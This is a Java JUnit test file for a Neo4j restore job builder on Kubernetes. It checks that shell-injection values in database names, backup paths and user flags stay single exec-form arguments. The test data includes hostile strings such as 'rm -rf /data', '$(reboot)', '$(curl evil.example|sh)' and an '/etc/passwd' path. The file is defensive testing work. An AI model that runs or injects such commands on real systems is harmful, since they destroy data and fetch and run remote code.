package io.neo4jrestore.runner.job;

import static io.neo4jrestore.runner.job.Fixtures.V2025_04;
import static io.neo4jrestore.runner.job.Fixtures.V5_26;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.kubernetes.client.openapi.models.V1Container;
import io.kubernetes.client.openapi.models.V1Job;
import io.neo4jrestore.api.JobRole;
import io.neo4jrestore.api.model.ResolvedSource;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Values that would break a shell command line stay exactly one argument: no quoting, splitting or
 * interpretation happens anywhere, and the container gets the list as its exec-form command.
 */
class HostileInputTest {
  private static final String[] HOSTILE = {
    "orders\"; rm -rf /data #",
    "orders'$(reboot)'",
    "$(curl evil.example|sh)",
    "`id`",
    "my orders db",
    "orders\n--expand-commands",
    "orders\r\n--additional-config=/tmp/x",
    "orders\\\" --verbose",
    "orders${IFS}x",
    "orders;--overwrite-destination=true",
    "*",
    "orders\u0000nul"
  };

  static String[] hostile() {
    return HOSTILE;
  }

  @ParameterizedTest
  @org.junit.jupiter.params.provider.MethodSource("hostile")
  void a_hostile_database_name_is_one_argument_and_changes_nothing_else(String name) {
    ResolvedSource source = Fixtures.s3(null, "s3://b/p/orders.backup");
    List<String> benign = build(V5_26, "orders", source, List.of());
    List<String> args = build(V5_26, name, source, List.of());
    assertEquals(benign.size(), args.size());
    assertEquals(name, args.get(benign.indexOf("orders")));
    assertEquals(benign.subList(0, benign.size() - 1), args.subList(0, args.size() - 1));
    assertExecForm(args, online(args, source));
  }

  @ParameterizedTest
  @org.junit.jupiter.params.provider.MethodSource("hostile")
  void a_hostile_artifact_path_is_one_argument(String part) {
    String path = "/backup/run " + part + "/orders.backup";
    ResolvedSource source =
        new ResolvedSource(
            "pvc",
            "/backup",
            List.of(Fixtures.artifact(path)),
            null,
            null,
            null,
            "neo4j-backups",
            null,
            null);
    List<String> args = build(V5_26, "orders", source, List.of());
    assertEquals(6, args.size());
    assertEquals("--from-path=" + path, args.get(3));
    assertExecForm(args, online(args, source));
  }

  @ParameterizedTest
  @org.junit.jupiter.params.provider.MethodSource("hostile")
  void a_hostile_folder_and_source_database_are_one_argument_each(String part) {
    String folder = "gs://b/" + part;
    ResolvedSource source =
        new ResolvedSource("gcs", folder, List.of(), null, null, "key", null, null, null);
    List<String> args = build(V2025_04, "orders", source, List.of());
    assertEquals(
        List.of(
            "neo4j-admin",
            "database",
            "restore",
            "--from-path=" + folder,
            "--source-database=orders",
            "--temp-path=/restore-temp"),
        args);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "--to-path-data=/data/$(reboot)",
        "--to-path-data=/data/`id` \"quoted\" 'single'",
        "--to-path-txn=/data/a b;c|d&e>f<g",
        "--to-path-txn=/data/*"
      })
  void an_accepted_user_flag_with_shell_characters_is_one_argument(String flag) {
    ResolvedSource source = Fixtures.s3(null, "s3://b/p/orders.backup");
    List<String> args = build(V5_26, "orders", source, List.of(flag));
    assertEquals(flag, args.get(args.size() - 1));
    assertEquals(build(V5_26, "orders", source, List.of()).size() + 1, args.size());
    assertExecForm(args, online(args, source));
  }

  @ParameterizedTest
  @org.junit.jupiter.params.provider.MethodSource("hostile")
  void a_hostile_inspect_path_and_database_are_one_argument_each(String part) {
    List<String> args = BackupInspect.command(V2025_04, "s3://b/" + part, part, true);
    assertEquals(
        List.of(
            "neo4j-admin",
            "backup",
            "inspect",
            "s3://b/" + part,
            "--format=JSON",
            "--show-metadata",
            "--database=" + part,
            "--latest-chain"),
        args);
  }

  @ParameterizedTest
  @ValueSource(strings = {"-orders", "--expand-commands", "@/etc/args"})
  void a_value_neo4j_admin_would_read_as_an_option_is_refused(String value) {
    ResolvedSource source = Fixtures.s3(null, "s3://b/p/orders.backup");
    assertThrows(IllegalArgumentException.class, () -> build(V5_26, value, source, List.of()));
    assertThrows(
        IllegalArgumentException.class, () -> BackupInspect.command(V5_26, value, null, false));
  }

  @ParameterizedTest
  @ValueSource(strings = {"/backup/a,/etc/passwd", "s3://b/p/x.backup,s3://other/y.backup"})
  void a_comma_that_neo4j_admin_would_split_on_is_refused(String path) {
    ResolvedSource source =
        new ResolvedSource(
            "s3", "s3://b/p", List.of(Fixtures.artifact(path)), null, null, "k", null, null, null);
    IllegalArgumentException e =
        assertThrows(
            IllegalArgumentException.class, () -> build(V5_26, "orders", source, List.of()));
    assertTrue(e.getMessage().contains("comma"), e.getMessage());
    ResolvedSource folder =
        new ResolvedSource("s3", path, List.of(), null, null, "k", null, null, null);
    assertThrows(
        IllegalArgumentException.class, () -> build(V2025_04, "orders", folder, List.of()));
  }

  private static List<String> build(
      io.neo4jrestore.runner.neo4j.Neo4jVersion version,
      String db,
      ResolvedSource source,
      List<String> extra) {
    return RestoreArguments.build(
        new RestoreArguments.Request(version, db, source, false, false, extra));
  }

  private static V1Job online(List<String> args, ResolvedSource source) {
    var target = Fixtures.standalone(V5_26);
    return RestoreJobBuilder.build(
        new RestoreJobRequest(
            Fixtures.identity(JobRole.RESTORE),
            target,
            args,
            RestoreMode.ONLINE,
            target.dataPvc(0),
            Placement.sharingVolumesWith(Fixtures.servingPod()),
            BackupAccess.from(source),
            null,
            null));
  }

  /** The container's command is the list, element for element, with no shell and no args. */
  private static void assertExecForm(List<String> args, V1Job job) {
    V1Container c = job.getSpec().getTemplate().getSpec().getContainers().get(0);
    assertEquals(args, c.getCommand());
    assertTrue(c.getArgs() == null || c.getArgs().isEmpty());
    assertEquals("neo4j-admin", c.getCommand().get(0));
    // the serialized manifest round-trips the same list (JSON escaping, not shell quoting)
    var json = new io.kubernetes.client.openapi.JSON();
    V1Job back = json.deserialize(json.serialize(job), V1Job.class);
    assertEquals(args, back.getSpec().getTemplate().getSpec().getContainers().get(0).getCommand());
  }
}
